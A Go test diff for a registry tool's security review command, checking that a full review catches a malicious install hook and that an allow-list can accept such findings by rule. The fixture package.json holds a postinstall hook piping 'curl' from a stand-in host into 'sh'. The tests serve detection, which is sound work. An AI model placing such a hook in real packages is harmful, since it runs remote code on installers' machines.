@@ -65,3 +65,68 @@ func TestReviewCommand(t *testing.T) {
 		}
 	}
 }
+
+// TestReviewFull reviews all the code at a server's pin, as for a new
+// server: a malicious install hook present since the first commit, which
+// no differential review would ever show, fails the review.
+func TestReviewFull(t *testing.T) {
+	s := gittest.NewServer(t)
+	r := s.NewRepo("tool", "main")
+	pin := r.Commit("main", "init", gittest.Files(map[string]string{
+		"package.json": "{\n  \"name\": \"tool\",\n  \"scripts\": {\"postinstall\": \"curl -s https://evil.test/x | sh\"}\n}\n",
+		"src/index.ts": "export const x = 1\n",
+		"README.md":    "# tool\n",
+	}))
+	reg := registrytest.NewRegistry(t, map[string]string{"servers/tool/server.yaml": serverYAML("tool", s.RepoURL("tool"), "", pin, "")})
+	out := filepath.Join(t.TempDir(), "out")
+	code, stdout, stderr := cli(context.Background(), nil, "review", "--registry", reg, "--server", "tool", "--full",
+		"--output", out, "--cache-dir", t.TempDir())
+	if code != exitFailed || !strings.Contains(stderr, "review failed") {
+		t.Fatalf("exit %d, want %d\n%s", code, exitFailed, stderr)
+	}
+	for _, want := range []string{"**Review Mode**: Full", "Full review", "postinstall", "evil.test", "no tool registration found in the code"} {
+		if !strings.Contains(stdout, want) {
+			t.Errorf("report lacks %q:\n%s", want, stdout)
+		}
+	}
+	if strings.Contains(stdout, "Base Commit") || strings.Contains(stdout, "old pin") {
+		t.Errorf("a full review names a base:\n%s", stdout)
+	}
+	labels, _ := os.ReadFile(filepath.Join(out, "labels.txt"))
+	if !strings.HasPrefix(string(labels), "security-risk:high\n") && !strings.HasPrefix(string(labels), "security-risk:critical\n") {
+		t.Errorf("labels.txt = %q, want high or critical", labels)
+	}
+	if code, _, _ := cli(context.Background(), nil, "review", "--registry", reg, "--server", "tool", "--full", "--base", pin); code != exitUsage {
+		t.Errorf("--full with --base: exit %d, want 2", code)
+	}
+}
+
+// TestReviewAllowList: the registry's allow-list accepts a server's
+// findings by rule, with a reason: they still show, marked, but no longer
+// fail the review; an unknown rule is a configuration error.
+func TestReviewAllowList(t *testing.T) {
+	s := gittest.NewServer(t)
+	r := s.NewRepo("tool", "main")
+	pin := r.Commit("main", "init", gittest.Files(map[string]string{
+		"package.json": "{\n  \"name\": \"tool\",\n  \"scripts\": {\"postinstall\": \"curl -s https://evil.test/x | sh\"}\n}\n",
+	}))
+	allow := "allow:\n  tool:\n    - rule: install-hook\n      reason: fetches its prebuilt binary\n"
+	reg := registrytest.NewRegistry(t, map[string]string{
+		"servers/tool/server.yaml": serverYAML("tool", s.RepoURL("tool"), "", pin, ""),
+		".github/updater.yaml":     allow,
+	})
+	code, stdout, stderr := cli(context.Background(), nil, "review", "--registry", reg, "--server", "tool", "--full", "--cache-dir", t.TempDir())
+	if code != exitOK {
+		t.Fatalf("exit %d, want 0\n%s", code, stderr)
+	}
+	if !strings.Contains(stdout, "allowed by the registry: fetches its prebuilt binary") || !strings.Contains(stdout, "postinstall") {
+		t.Errorf("the allowed finding is not shown as allowed:\n%s", stdout)
+	}
+	if err := os.WriteFile(filepath.Join(reg, ".github", "updater.yaml"), []byte(strings.Replace(allow, "install-hook", "install-hooks", 1)), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	code, _, stderr = cli(context.Background(), nil, "review", "--registry", reg, "--server", "tool", "--full", "--cache-dir", t.TempDir())
+	if code != exitUsage || !strings.Contains(stderr, `unknown rule "install-hooks"`) {
+		t.Errorf("unknown rule: exit %d, want 2\n%s", code, stderr)
+	}
+}
